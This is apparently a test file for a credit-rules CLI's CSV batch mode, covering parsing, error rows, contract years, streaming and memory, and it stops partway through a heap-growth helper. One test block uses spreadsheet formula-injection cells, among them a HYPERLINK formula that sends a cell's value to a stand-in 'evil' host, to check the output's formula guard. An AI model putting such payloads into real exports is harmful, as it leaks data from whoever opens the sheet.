/**
 * `credit-rules batch` (README, "Batch evaluation for billing"): through the
 * real CLI process like cli.test.ts — output rows, error rows and stderr
 * lines, exit codes — and in-process for what a process cannot show: the CSV
 * reader at every chunk boundary, the writer's quoting and formula guard on
 * any text, output flowing before the input ends, backpressure, an output that
 * fails, and memory that stays flat over hundreds of thousands of rows and
 * customers. Where the output goes (--out, signals, broken pipes) is in
 * batch-output.test.ts.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, Readable, Writable } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import fc from 'fast-check';
import { runBatch, type BatchProgram } from '../../src/cli/batch.js';
import { CsvReader, CsvWriter, MAX_RECORD } from '../../src/cli/csv.js';
import { REMEMBERED_CUSTOMERS } from '../../src/cli/customers.js';
import { compile, type CreditOutcome, type InputValues, type Program } from '../../src/index.js';

const BIN = fileURLToPath(new URL('../../bin/credit-rules.js', import.meta.url));
const LIB = fileURLToPath(new URL('../../lib/cli/batch.js', import.meta.url));
const EXAMPLES = fileURLToPath(new URL('../../examples/', import.meta.url));
const FIXTURES = fileURLToPath(new URL('./fixtures/', import.meta.url));

interface Run {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
  /** The output CSV's data rows, split into fields (no field here holds a comma). */
  readonly rows: Record<string, string>[];
  readonly errors: string[];
}

const HEADER = 'line,customer,month,currency,credit,percent_of_fee,cuts,error';

function cli(args: string[], stdin?: string): Run {
  const result = spawnSync(process.execPath, [BIN, ...args], { cwd: dir, encoding: 'utf8', timeout: 60_000, maxBuffer: 64 << 20, ...(stdin !== undefined ? { input: stdin } : {}) });
  return {
    code: result.status,
    stdout: result.stdout,
    stderr: result.stderr,
    rows: result.stdout.startsWith(HEADER) ? parseOutput(result.stdout) : [],
    errors: result.stderr.split('\n').filter((l) => l !== ''),
  };
}

/** The output CSV as objects, read with the reader under test (its own tests are below). */
function parseOutput(text: string): Record<string, string>[] {
  const records: string[][] = [];
  const reader = new CsvReader((fields) => records.push([...fields]), (line, message) => assert.fail(`output line ${line}: ${message}`));
  reader.push(text);
  reader.end();
  if (records.length === 0) return [];
  assert.equal(records[0].join(','), HEADER);
  return records.slice(1).map((fields) => Object.fromEntries(records[0].map((name, i) => [name, fields[i]])));
}

let dir = '';
const file = (name: string, text: string) => {
  writeFileSync(join(dir, name), text);
  return name;
};
const example = (name: string) => join(EXAMPLES, name);
const program = (name: string): Program => {
  const compiled = compile(readFileSync(example(name), 'utf8')).program;
  assert.ok(compiled);
  return compiled;
};

before(() => {
  assert.ok(existsSync(LIB), 'lib/ is not built: run `npm run build:lib` first (the test script does)');
  dir = mkdtempSync(join(tmpdir(), 'credit-rules-batch-'));
  file('smallest.credit', 'if availability < 99.5% then 10%\n');
});

after(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('credit-rules batch: months on their own', () => {
  const csv = ['availability,fee', '99.995%,1000 USD', '98.7,1000', '94.2%,', '98%,40000 USD', '99.5%,1200', ''].join('\n');

  it('writes one output row per input row: line, credit, share of the fee, cap cuts; exit 0', () => {
    const run = cli(['batch', example('uptime-tiers.credit'), '--csv', file('months.csv', csv)]);
    assert.equal(run.code, 0, run.stderr);
    assert.equal(run.stderr, '');
    assert.equal(run.stdout.split('\n')[0], HEADER);
    assert.deepEqual(run.rows.map((r) => [r.line, r.customer, r.month, r.currency, r.credit, r.percent_of_fee, r.error]), [
      ['2', '', '', 'USD', '0.00', '0', ''],
      ['3', '', '', 'USD', '300.00', '30', ''],
      ['4', '', '', 'USD', '1000.00', '100', ''],
      ['5', '', '', 'USD', '10000.00', '25', ''],
      ['6', '', '', 'USD', '120.00', '10', ''],
    ]);
    assert.equal(run.rows[3].cuts, 'monthly cap on Region availability (line 21): -2000.00');
  });

  it('the amounts are program.evaluate\'s for the same values (an empty cell takes the default)', () => {
    const run = cli(['batch', example('uptime-tiers.credit'), '--csv', file('months.csv', csv)]);
    const uptime = program('uptime-tiers.credit');
    const inputs = csv.split('\n').slice(1, -1).map((line) => line.split(','));
    assert.equal(run.rows.length, inputs.length);
    run.rows.forEach((row, i) => {
      const [availability, fee] = inputs[i];
      const evaluation = uptime.evaluate({ availability, ...(fee ? { fee } : {}) });
      assert.ok(evaluation.ok);
      assert.deepEqual([row.credit, row.percent_of_fee], [evaluation.result.credit.amount, evaluation.result.credit.percentOfFee], `line ${row.line}`);
    });
  });

  it('bad values among good ones: each bad row gets the input\'s own message, the others their credit; exit 1', () => {
    const bad = ['availability,fee', '99.5%,1000', 'banana,1000', '101%,1000', '98%,1000 EUR', '98%,', ''].join('\n');
    const run = cli(['batch', example('uptime-tiers.credit'), '--csv', file('bad.csv', bad)]);
    assert.equal(run.code, 1);
    assert.deepEqual(run.rows.map((r) => [r.line, r.credit, r.error]), [
      ['2', '100.00', ''],
      ['3', '', '`availability`: expected a percentage such as 99.5%, but got "banana"'],
      ['4', '', '`availability`: 101% is outside the allowed range 0%..100%'],
      ['5', '', '`fee`: the rules are in USD, but 1000 EUR is in EUR'],
      ['6', '300.00', ''],
    ]);
    assert.deepEqual(run.errors, [
      'bad.csv:3: error: `availability`: expected a percentage such as 99.5%, but got "banana"',
      'bad.csv:4: error: `availability`: 101% is outside the allowed range 0%..100%',
      'bad.csv:5: error: `fee`: the rules are in USD, but 1000 EUR is in EUR',
      'credit-rules: 3 of 5 rows failed',
    ]);
  });

  it('a precompiled program (.json) and `--csv -` (stdin) give the same output', () => {
    const compiled = spawnSync(process.execPath, [BIN, 'compile', example('uptime-tiers.credit'), '--out', join(dir, 'uptime.json')], { encoding: 'utf8' });
    assert.equal(compiled.status, 0, compiled.stderr);
    const fromRules = cli(['batch', example('uptime-tiers.credit'), '--csv', file('months.csv', csv)]);
    const fromJson = cli(['batch', 'uptime.json', '--csv', '-'], csv);
    assert.equal(fromJson.code, 0, fromJson.stderr);
    assert.equal(fromJson.stdout, fromRules.stdout);
  });
});

describe('credit-rules batch: contract years', () => {
  it('the rows of a customer, months 1 to 4, are one year: the quarterly point cap cuts month 3', () => {
    const run = cli(['batch', example('points.credit'), '--csv', join(FIXTURES, 'points-year.csv')]);
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(run.rows.map((r) => [r.line, r.customer, r.month, r.credit, r.percent_of_fee, r.cuts]), [
      ['2', 'ACME', '1', '400.00', '5', ''],
      ['3', 'ACME', '2', '400.00', '5', ''],
      ['4', 'ACME', '3', '0.00', '0', 'quarterly cap on all credits (line 35): -400.00'],
      ['5', 'ACME', '4', '400.00', '5', ''],
      ['6', 'Globex', '1', '40.00', '0.5', ''],
      ['7', 'Globex', '2', '0.00', '0', ''],
      ['8', '', '', '400.00', '5', ''],
    ]);
  });

  it('each month\'s amount is the month of program.evaluate\'s year run', () => {
    const run = cli(['batch', example('points.credit'), '--csv', join(FIXTURES, 'points-year.csv')]);
    const evaluation = program('points.credit').evaluate({ availability: ['98%', '98%', '98%', '98%'], late_incidents: ['4', '4', '4', '4'] });
    assert.ok(evaluation.ok && evaluation.result.mode === 'year');
    assert.deepEqual(run.rows.slice(0, 4).map((r) => r.credit), evaluation.result.periods.map((m) => m.credit.amount));
  });

  it('a customer whose rows are not together: its later rows are errors, the others are paid; exit 1', () => {
    const csv = ['customer,month,availability,late_incidents', 'A,1,98%,4', 'A,2,98%,4', 'B,1,99.9%,0', 'A,3,98%,4', 'A,4,98%,4', ''].join('\n');
    const run = cli(['batch', example('points.credit'), '--csv', file('interleaved.csv', csv)]);
    assert.equal(run.code, 1);
    assert.deepEqual(run.rows.map((r) => [r.line, r.credit, r.error]), [
      ['2', '400.00', ''],
      ['3', '400.00', ''],
      ['4', '0.00', ''],
      ['5', '', 'the rows of customer "A" are not together: its rows before ended at line 3; sort the file by customer'],
      ['6', '', 'the rows of customer "A" are not together: its rows before ended at line 3; sort the file by customer'],
    ]);
    assert.deepEqual(run.errors, [
      'interleaved.csv:5: error: the rows of customer "A" are not together: its rows before ended at line 3; sort the file by customer',
      'interleaved.csv:6: error: the rows of customer "A" are not together: its rows before ended at line 3; sort the file by customer',
      'credit-rules: 2 of 5 rows failed',
    ]);
  });

  it('a bad value fails its year: the bad row names the input, its other rows name the bad line; other customers are paid', () => {
    const csv = ['customer,month,availability', 'A,1,98%', 'A,2,banana', 'A,3,98%', 'B,1,99%', ''].join('\n');
    const run = cli(['batch', example('points.credit'), '--csv', file('bad-value.csv', csv)]);
    assert.equal(run.code, 1);
    assert.deepEqual(run.rows.map((r) => [r.line, r.credit, r.error]), [
      ['2', '', 'not computed: line 3 of this customer\'s contract year has an error'],
      ['3', '', '`availability`: expected a percentage such as 99.5%, but got "banana"'],
      ['4', '', 'not computed: line 3 of this customer\'s contract year has an error'],
      ['5', '120.00', ''],
    ]);
    assert.equal(run.errors[1], 'bad-value.csv:3: error: `availability`: expected a percentage such as 99.5%, but got "banana"');
    assert.equal(run.errors.at(-1), 'credit-rules: 3 of 4 rows failed');
  });

  const months: [sentence: string, months: string[], errors: (string | RegExp)[]][] = [
    ['a month out of 1-12', ['1', '13'], [/line 3 of this/, 'the month must be a whole number from 1 to 12, not "13"']],
    ['a month that is no number', ['1', 'May'], [/line 3 of this/, 'the month must be a whole number from 1 to 12, not "May"']],
    ['a missing month (counted as the next one)', ['1', '', '3'], [/line 3 of this/, /^no month given/, /line 3 of this/]],
    ['a repeated month', ['1', '2', '2'], [/line 4 of this/, /line 4 of this/, 'month 2 is repeated (line 3)']],
    ['months out of order', ['1', '3', '2'], [/line 3 of this/, 'month 3 follows month 1: month 2 is missing', 'month 2 comes after month 3: a customer\'s months must be in order, and a file holds one contract year per customer']],
    ['a year that does not start at month 1', ['2', '3'], [/first row is month 2, but a contract year starts at month 1/, /line 2 of this/]],
    ['a gap of two months', ['1', '4'], [/line 3 of this/, 'month 4 follows month 1: months 2 to 3 are missing']],
  ];
  for (const [sentence, list, errors] of months) {
    it(`${sentence} fails the customer's year, row by row: ${list.join(', ')}`, () => {
      const csv = ['customer,month,availability', ...list.map((m) => `A,${m},98%`), 'B,1,98%', ''].join('\n');
      const run = cli(['batch', example('points.credit'), '--csv', file('months.csv', csv)]);
      assert.equal(run.code, 1);
      assert.equal(run.rows.length, list.length + 1);
      errors.forEach((expected, i) => {
        if (typeof expected === 'string') assert.equal(run.rows[i].error, expected);
        else assert.match(run.rows[i].error, expected);
        assert.equal(run.rows[i].credit, '');
      });
      assert.deepEqual([run.rows.at(-1)?.customer, run.rows.at(-1)?.credit, run.rows.at(-1)?.error], ['B', '240.00', '']);
    });
  }

  it('a row with the wrong number of fields is an error of its own, and of its customer\'s year', () => {
    const csv = ['customer,month,availability', 'A,1,98%', 'A,2,98%,extra', 'A,3,98%', ',,99.1%,x', '', ',5,99.6%', ',,99.1%', ''].join('\n');
    const run = cli(['batch', example('points.credit'), '--csv', file('count.csv', csv)]);
    assert.equal(run.code, 1);
    assert.deepEqual(run.rows.map((r) => [r.line, r.error]), [
      ['2', 'not computed: line 3 of this customer\'s contract year has an error'],
      ['3', 'expected 3 fields, as the header has, but got 4'],
      ['4', 'not computed: line 3 of this customer\'s contract year has an error'],
      ['5', 'expected 3 fields, as the header has, but got 4'],
      ['7', 'a month needs a customer: the months of one customer form its contract year'],
      ['8', ''],
    ]);
  });
});

describe('credit-rules batch: CSV as billing systems write it', () => {
  it('quoted fields with commas, quotes and line breaks; CRLF; a byte order mark; a blank trailing line', () => {
    const csv = '\uFEFFcustomer,"month",availability\r\n"Globex, Inc.",1,98%\r\n"Say ""hi""\r\nLtd",1,"99.1%"\r\n"Say ""hi""\r\nLtd",2,99.9\r\n\r\n';
    const run = cli(['batch', example('points.credit'), '--csv', file('quoted.csv', csv)]);
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(run.rows.map((r) => [r.line, r.customer, r.month, r.credit]), [
      ['2', 'Globex, Inc.', '1', '240.00'],
      ['3', 'Say "hi"\r\nLtd', '1', '120.00'],
      ['5', 'Say "hi"\r\nLtd', '2', '0.00'],
    ]);
    assert.match(run.stdout, /^3,"Say ""hi""\r\nLtd",1,/m);
  });

  it('a customer name beyond ASCII comes out as it came in, in UTF-8, on every row of its year', () => {
    const csv = 'customer,month,availability\nZürich Øresund 東京,1,98%\nZürich Øresund 東京,2,99.1%\n"Café, ""Ltd""",1,98%\n';
    const run = cli(['batch', example('points.credit'), '--csv', file('unicode.csv', csv)]);
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(run.rows.map((r) => [r.line, r.customer, r.month, r.credit]), [
      ['2', 'Zürich Øresund 東京', '1', '240.00'],
      ['3', 'Zürich Øresund 東京', '2', '120.00'],
      ['4', 'Café, "Ltd"', '1', '240.00'],
    ]);
    assert.match(run.stdout, /^4,"Café, ""Ltd""",1,/m);
  });

  it('an unclosed quote in a customer\'s rows fails that year: the row may be one of its months', () => {
    const csv = ['customer,month,availability', 'A,1,98%', 'A,2,"99%', 'A,3,98%', 'B,1,98%', ''].join('\n');
    const run = cli(['batch', example('points.credit'), '--csv', file('unclosed-year.csv', csv)]);
    assert.equal(run.code, 1);
    assert.deepEqual(run.rows.map((r) => [r.line, r.customer, r.credit, r.error]), [
      ['2', 'A', '', 'not computed: line 3 of this customer\'s contract year has an error'],
      ['3', 'A', '', 'a quoted field is not closed: its closing quote (") is missing'],
      ['4', 'A', '', 'not computed: line 3 of this customer\'s contract year has an error'],
      ['5', 'B', '240.00', ''],
    ]);
  });

  it('an unclosed quote is an error on its line, and the lines after it are read again', () => {
    const csv = ['availability', '98%', '"99%', '99.9%', ''].join('\n');
    const run = cli(['batch', example('points.credit'), '--csv', file('unclosed.csv', csv)]);
    assert.equal(run.code, 1);
    assert.deepEqual(run.rows.map((r) => [r.line, r.credit, r.error]), [
      ['2', '240.00', ''],
      ['3', '', 'a quoted field is not closed: its closing quote (") is missing'],
      ['4', '0.00', ''],
    ]);
  });
});

describe('credit-rules batch: cells a spreadsheet would run as formulas', () => {
  const hyperlink = '"=HYPERLINK(""http://evil/?x=""&A1;""click"")"';
  const csv = [
    'customer,month,availability,late_incidents',
    `${hyperlink},1,98%,4`,
    `${hyperlink},2,98%,4`,
    '+1 555 0100,1,98%,4',
    '-5,1,98%,4',
    '@SUM(A1),1,98%,4',
    'Globex,=1+2,98%,4',
    '',
  ].join('\n');
  const error = '"the month must be a whole number from 1 to 12, not ""=1+2"""';

  it('customer and month cells starting with =, +, - or @ are written after a single quote, quoted; the numbers we write are not', () => {
    const run = cli(['batch', example('points.credit'), '--csv', file('formulas.csv', csv)]);
    assert.equal(run.code, 1);
    assert.deepEqual(run.stdout.split('\n'), [
      HEADER,
      `2,"'=HYPERLINK(""http://evil/?x=""&A1;""click"")",1,EUR,400.00,5,,`,
      `3,"'=HYPERLINK(""http://evil/?x=""&A1;""click"")",2,EUR,400.00,5,,`,
      `4,"'+1 555 0100",1,EUR,400.00,5,,`,
      `5,"'-5",1,EUR,400.00,5,,`,
      `6,"'@SUM(A1)",1,EUR,400.00,5,,`,
      `7,Globex,"'=1+2",,,,,${error}`,
      '',
    ]);
    assert.equal(run.errors[0], 'formulas.csv:7: error: the month must be a whole number from 1 to 12, not "=1+2"');
  });

  it('--no-formula-guard writes them as they are', () => {
    const run = cli(['batch', example('points.credit'), '--csv', file('formulas.csv', csv), '--no-formula-guard']);
    assert.equal(run.code, 1);
    assert.deepEqual(run.rows.map((r) => [r.customer, r.month]), [
      ['=HYPERLINK("http://evil/?x="&A1;"click")', '1'],
      ['=HYPERLINK("http://evil/?x="&A1;"click")', '2'],
      ['+1 555 0100', '1'],
      ['-5', '1'],
      ['@SUM(A1)', '1'],
      ['Globex', '=1+2'],
    ]);
    assert.match(run.stdout, /\n4,\+1 555 0100,1,EUR,/);
  });

  it('`batch --help` says so, and how to turn it off', () => {
    const run = cli(['batch', '--help']);
    assert.match(run.stdout, /--no-formula-guard\n[^]*single quote/);
  });
});

describe('credit-rules batch: what stderr shows of a cell', () => {
  it('control characters are escapes (NUL, ESC, CR LF, a right-to-left override): the message stays one line and shows what the cell holds', () => {
    const run = cli(['batch', example('uptime-tiers.credit'), '--csv', file('control.csv', 'availability\n"9\u0000\u001b[2J\r\n\u202e9%"\n')]);
    assert.equal(run.code, 1);
    assert.deepEqual(run.errors, [
      'control.csv:2: error: `availability`: expected a percentage such as 99.5%, but got "9\\x00\\x1b[2J\\r\\n\\u202e9%"',
      'credit-rules: 1 of 1 rows failed',
    ]);
  });
});

describe('credit-rules batch: customers in any order, in flat memory', () => {
  /** One-row years of customers `C<n>`, n from `names`, then the rows in `tail`. */
  const oneRowYears = (names: number[], tail: string[] = []) =>
    ['customer,month,availability', ...names.map((n) => `C${n},1,98%`), ...tail, ''].join('\n');
  const count = REMEMBERED_CUSTOMERS + 10;

  it(`a file sorted by customer, in natural order, of more than ${REMEMBERED_CUSTOMERS.toLocaleString('en')} customers: a customer back among the first is named with its line, one past them cannot be checked`, () => {
    const csv = oneRowYears(Array.from({ length: count }, (_, i) => i + 1), ['C3,1,98%', `C${count - 2},1,98%`]);
    const run = cli(['batch', example('points.credit'), '--csv', file('sorted.csv', csv), '--jobs', '1']);
    assert.equal(run.code, 1, run.stderr);
    assert.deepEqual(run.errors, [
      `sorted.csv:${count + 2}: error: the rows of customer "C3" are not together: its rows before ended at line 4; sort the file by customer`,
      `sorted.csv:${count + 3}: error: the rows of customer "C${count - 2}" cannot be checked to be together: the file is not sorted by customer and has more than ${REMEMBERED_CUSTOMERS.toLocaleString('en')} customers, too many to remember; sort the file by customer`,
      `credit-rules: 2 of ${count + 2} rows failed`,
    ]);
  });

  it(`a file in no order: customers are checked while at most ${REMEMBERED_CUSTOMERS.toLocaleString('en')} are remembered; past that, one that sorts before an earlier one is an error`, () => {
    // n × 7919 mod a prime: every number once, in no order.
    const names = Array.from({ length: count }, (_, i) => ((i + 1) * 7919) % 100_019);
    const run = cli(['batch', example('points.credit'), '--csv', file('unsorted.csv', oneRowYears(names)), '--jobs', '1']);
    assert.equal(run.code, 1);
    const failed = run.rows.filter((r) => r.error !== '');
    assert.ok(failed.every((r) => Number(r.line) > REMEMBERED_CUSTOMERS + 2 && /cannot be checked to be together/.test(r.error)));
    assert.ok(failed.length > 0);
  });
});

describe('credit-rules batch: a batch that cannot run exits 2 with one clear line on stderr', () => {
  const cases: [sentence: string, args: () => string[], message: RegExp][] = [
    ['no --csv', () => ['batch', example('points.credit')], /batch needs --csv IN/],
    ['no FILE', () => ['batch', '--csv', 'x.csv'], /batch takes one FILE/],
    ['a missing CSV file', () => ['batch', example('points.credit'), '--csv', 'nope.csv'], /nope\.csv: no such file/],
    ['a directory for the CSV', () => ['batch', example('points.credit'), '--csv', '.'], /\.: is a directory/],
    ['a column that is no input', () => ['batch', example('points.credit'), '--csv', file('u.csv', 'customer,month,availabilty\nA,1,99%\n')],
      /^credit-rules: u\.csv: line 1: column "availabilty" is not an identifying column \(customer, month\) nor an input: .*Did you mean `availability`\?$/],
    ['no column for an input without default', () => ['batch', 'smallest.credit', '--csv', file('f.csv', 'availability\n99%\n')], /no column for `fee`: the rules declare no default/],
    ['a month column without a customer column', () => ['batch', example('points.credit'), '--csv', file('m.csv', 'month,availability\n1,99%\n')], /a month column needs a customer column/],
    ['a column twice', () => ['batch', example('points.credit'), '--csv', file('d.csv', 'availability,availability\n99%,99%\n')], /column "availability" appears more than once/],
    ['an empty file', () => ['batch', example('points.credit'), '--csv', file('e.csv', '')], /e\.csv: the file is empty/],
    ['an option of another command', () => ['batch', example('points.credit'), '--csv', 'x.csv', '--json'], /batch has no --json option/],
    ['--csv for another command', () => ['eval', example('points.credit'), '--csv', 'x.csv'], /eval has no --csv option/],
  ];
  for (const [sentence, args, message] of cases) {
    it(sentence, () => {
      const run = cli(args());
      assert.equal(run.code, 2, `exit code; stderr: ${run.stderr}`);
      assert.equal(run.errors.length, 1, run.stderr);
      assert.doesNotMatch(run.stderr, /^\s+at |internal error|node:internal/m);
      assert.match(run.stderr.trim(), message);
      assert.equal(run.stdout, '');
    });
  }

  it('rules with errors: their diagnostics, exit 1 (as eval)', () => {
    const run = cli(['batch', file('broken.credit', 'if availability < 99.5% then\n'), '--csv', file('ok.csv', 'availability\n99%\n')]);
    assert.equal(run.code, 1);
    assert.match(run.stderr, /^broken\.credit:1:\d+: error syntax-error: /m);
  });

  it('`batch --help` prints its usage, with the output columns', () => {
    const run = cli(['batch', '--help']);
    assert.equal(run.code, 0);
    assert.match(run.stdout, /^Usage: credit-rules batch FILE --csv IN \[--out OUT\]/);
    assert.match(run.stdout, new RegExp(HEADER));
  });
});

describe('the CSV reader', () => {
  const read = (chunks: string[]) => {
    const out: string[] = [];
    const reader = new CsvReader((fields, line) => out.push(`${line}:${JSON.stringify(fields)}`), (line, message) => out.push(`${line}!${message}`));
    for (const chunk of chunks) reader.push(chunk);
    reader.end();
    return out;
  };
  const tricky = '\uFEFFa,b,c\r\n"x, ""y""",2,\r\n\n"multi\nline\r\nfield",,"3"\n4,"",five\r\nlast,"q",end';

  it('reads RFC 4180: quotes, doubled quotes, line breaks in fields, CRLF, BOM, blank lines, no final line break', () => {
    assert.deepEqual(read([tricky]), [
      '1:["a","b","c"]',
      '2:["x, \\"y\\"","2",""]',
      '4:["multi\\nline\\r\\nfield","","3"]',
      '7:["4","","five"]',
      '8:["last","q","end"]',
    ]);
  });

  it('gives the same records wherever the chunks split the text', () => {
    const whole = read([tricky]);
    for (let i = 0; i <= tricky.length; i++) {
      assert.deepEqual(read([tricky.slice(0, i), tricky.slice(i)]), whole, `split at ${i}`);
    }
    assert.deepEqual(read([...tricky]), whole, 'one character at a time');
  });

  it('text after a closing quote is a problem of that record only', () => {
    assert.deepEqual(read(['a,b\n"x"y,1\n2,3\n']), ['1:["a","b"]', '2!field 1: text after the closing quote; a quote inside a quoted field is written twice ("")', '3:["2","3"]']);
  });

  it('a quote never closed is not allowed to swallow the file: past MAX_RECORD characters the line is given up', () => {
    const out: string[] = [];
    const reader = new CsvReader((fields, line) => out.push(`${line}:${fields[0].length}`), (line) => out.push(`${line}!`));
    reader.push('a\n"open\n');
    const filler = `${'x'.repeat(1000)}\n`;
    for (let written = 0; written <= MAX_RECORD + 1000; written += filler.length) reader.push(filler);
    reader.end();
    assert.equal(out[0], '1:1');
    assert.equal(out[1], '2!');
    assert.ok(out.length > 1000 && out.slice(2).every((o) => o.endsWith(':1000')), out.slice(0, 5).join(' '));
  });

  it('a record past MAX_RECORD characters is given up however the chunks cut it (a parallel batch cuts differently)', () => {
    const long = 'y'.repeat(MAX_RECORD + 5);
    const lengths = (chunks: string[]) => {
      const out: string[] = [];
      const reader = new CsvReader((fields, line) => out.push(`${line}:${fields.map((f) => f.length).join('|')}`), (line, message) => out.push(`${line}!${message}`));
      for (const chunk of chunks) reader.push(chunk);
      reader.end();
      return out;
    };
    for (const text of [`a,b\n1,${long}\n2,3\n`, `a,b\n"${long}\nmore",1\n2,3\n`, `a,b\n"x\n${long}",1\n2,3\n`]) {
      const whole = lengths([text]);
      assert.ok(whole.some((o) => o.includes('!')), whole.join(' '));
      assert.equal(whole.at(-1), `${text.split('\n').length - 1}:1|1`);
      for (const size of [1 << 16, 1 << 20, 3000]) {
        const chunks = Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));
        assert.deepEqual(lengths(chunks), whole, `chunks of ${size}`);
      }
    }
  });
});

describe('the CSV writer', () => {
  const written = (write: (w: CsvWriter) => void, size = 64) => {
    const writer = new CsvWriter(size);
    write(writer);
    return writer.take().toString('utf8');
  };

  it('any cell reads back as itself, or after a single quote where a spreadsheet would run it; kept or not, the same bytes', () => {
    const cells = fc.oneof(
      fc.string({ maxLength: 40, unit: 'binary' }),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ maxLength: 40, unit: 'binary' })).map(([start, rest]) => start + rest),
    );
    fc.assert(fc.property(cells, fc.boolean(), (value, guard) => {
      const row = (keep: boolean) => {
        const writer = new CsvWriter(8, guard);
        if (keep) writer.keep(value);
        writer.text('x,');
        writer.cell(value);
        writer.char(10);
        return writer.take().toString('utf8');
      };
      const text = row(false);
      assert.equal(row(true), text);
      const records: string[][] = [];
      const reader = new CsvReader((fields) => records.push([...fields]), (_line, message) => assert.fail(message));
      reader.push(text);
      reader.end();
      assert.deepEqual(records, [['x', guard && /^[=+\-@\t\r]/.test(value) ? `'${value}` : value]]);
    }), { seed: 18, numRuns: 2000 });
  });

  it('quotes a field only when it holds a comma, quote or line break, and doubles its quotes', () => {
    const fields = ['ACME', '', 'Globex, Inc.', 'Say "hi"', 'two\nlines', 'cr\r', 'Müller, Zürich', '東京'];
    assert.equal(written((w) => fields.forEach((f, i) => (i > 0 && w.char(44), w.field(f)))),
      'ACME,,"Globex, Inc.","Say ""hi""","two\nlines","cr\r","Müller, Zürich",東京');
  });

  it('writes text beyond ASCII as UTF-8, and numbers as their digits', () => {
    assert.equal(written((w) => [0, 7, 10, 99, 100, 1234567, 2 ** 31].forEach((n) => (w.count(n), w.char(32)))), '0 7 10 99 100 1234567 2147483648 ');
    assert.deepEqual([...Buffer.from(written((w) => w.text('Ørsted ✓')))], [...Buffer.from('Ørsted ✓', 'utf8')]);
  });

  it('a kept field is written as it is without keeping it; other fields are not affected', () => {
    const long = 'x'.repeat(500);
    for (const name of ['ACME', 'Globex, Inc.', 'Say "hi"', 'Zürich AG', long, '']) {
      const plain = written((w) => (w.field(name), w.field('other'), w.field(name)));
      assert.equal(written((w) => (w.keep(name), w.field(name), w.field('other'), w.field(name))), plain);
      assert.equal(written((w) => (w.keep(long), w.keep(name), w.field(name), w.field('other'), w.field(name))), plain);
    }
  });

  it('grows past its size for a long field, and what it handed out stays as it was', () => {
    const writer = new CsvWriter(8);
    writer.field('x'.repeat(10_000));
    writer.field('y, and more');
    const first = writer.take();
    assert.equal(first.toString(), `${'x'.repeat(10_000)}"y, and more"`);
    writer.text('after');
    assert.equal(writer.take().toString(), 'after');
    assert.equal(first.toString(), `${'x'.repeat(10_000)}"y, and more"`);
  });
});

/** Rows generated as they are read: the file never exists as a whole. */
function generated(count: number, row: (i: number) => string, header: string): Readable {
  let i = 0;
  return new Readable({
    read() {
      let chunk = i === 0 ? `${header}\n` : '';
      for (let n = 0; n < 2000 && i < count; n++, i++) chunk += `${row(i)}\n`;
      this.push(chunk === '' ? null : chunk);
    },
  });
}

/** The uptime program, with `credit` answered from a cache: the streaming machinery under test, not the evaluator. */
function cachedUptime(): BatchProgram {
  const uptime = program('uptime-tiers.credit');
  const cache = new Map<string, CreditOutcome>();
  return {
    inputs: uptime.inputs,
    evaluate: uptime.evaluate.bind(uptime),
    credit: (values: InputValues = {}) => {
      const key = JSON.stringify(values);
      let outcome = cache.get(key);
      if (!outcome) cache.set(key, (outcome = uptime.credit(values)));
      return outcome;
    },
  };
}

const AVAILABILITY = ['99.995%', '99.5%', '98.7', '94.2%', '99.99%', '99.0%'];

describe('runBatch streams', () => {
  it('writes the output of the first rows before the input has ended', async () => {
    const input = new PassThrough();
    let written = '';
    const output = new Writable({ write(chunk, _encoding, callback) { written += chunk; callback(); } });
    const done = runBatch(program('uptime-tiers.credit'), input, output);
    input.write('availability\n99.5%\n98%\n');
    await new Promise((resolve) => setTimeout(resolve, 50));
    assert.equal(written, `${HEADER}\n2,,,USD,100.00,10,,\n3,,,USD,300.00,30,,\n`);
    input.end('94%\n');
    assert.deepEqual(await done, { ok: true, rows: 3, failed: 0 });
    assert.match(written, /\n4,,,USD,1000\.00,100,,\n$/);
  });

  it('an output that fails while the batch reads: runBatch rejects with its error, rather than wait for a drain that cannot come', async () => {
    const input = new PassThrough();
    let firstWrite: () => void = () => undefined;
    const written = new Promise<void>((resolve) => (firstWrite = resolve));
    const output = new Writable({ highWaterMark: 1 << 30, write(_chunk, _encoding, callback) { firstWrite(); callback(); } });
    const done = runBatch(program('uptime-tiers.credit'), input, output);
    input.write('availability\n99.5%\n');
    await written;
    // As a pipe whose reader went away: the error comes between two writes, and the stream is destroyed.
    const failed = once(output, 'error');
    output.destroy(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' }));
    await failed;
    input.end('98%\n'.repeat(1000));
    await assert.rejects(done, { code: 'EPIPE' });
  });

  it('stops reading while the output does not drain (backpressure), and goes on when it does', async () => {
    let produced = 0;
    const input = generated(1_000_000, (i) => {
      produced = i;
      return AVAILABILITY[i % AVAILABILITY.length];
    }, 'availability');
    const held: (() => void)[] = [];
    let flowing = false;
    const output = new Writable({
      highWaterMark: 1024,
      write(_chunk, _encoding, callback) {
        if (flowing) callback();
        else held.push(() => callback());
      },
    });
    const done = runBatch(cachedUptime(), input, output);
    let ended = false;
    void done.then(() => (ended = true));
    // Without backpressure the million rows would be read into the output's buffer by now.
    await new Promise((resolve) => setTimeout(resolve, 300));
    assert.ok(produced < 50_000 && !ended, `${produced} rows read while the output was blocked`);
    assert.ok(held.length > 0);
    flowing = true;
    for (const release of held.splice(0)) release();
    const outcome = await done;
    assert.deepEqual(outcome, { ok: true, rows: 1_000_000, failed: 0 });
  });

  /**
   * Runs `rows` generated rows and samples the heap after a full collection
   * every 20,000 rows: how much it grew past the first samples, against the
   * size of all the rows' text (input and output), which is what a reader that
   * held the file or its output would keep.
   */
  async function heapGrowth(rows: number, row: (i: number) => string, header: string, from = 20_000): Promise<{ growth: number; text: number }> {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const samples: number[] = [];
    let text = 0;
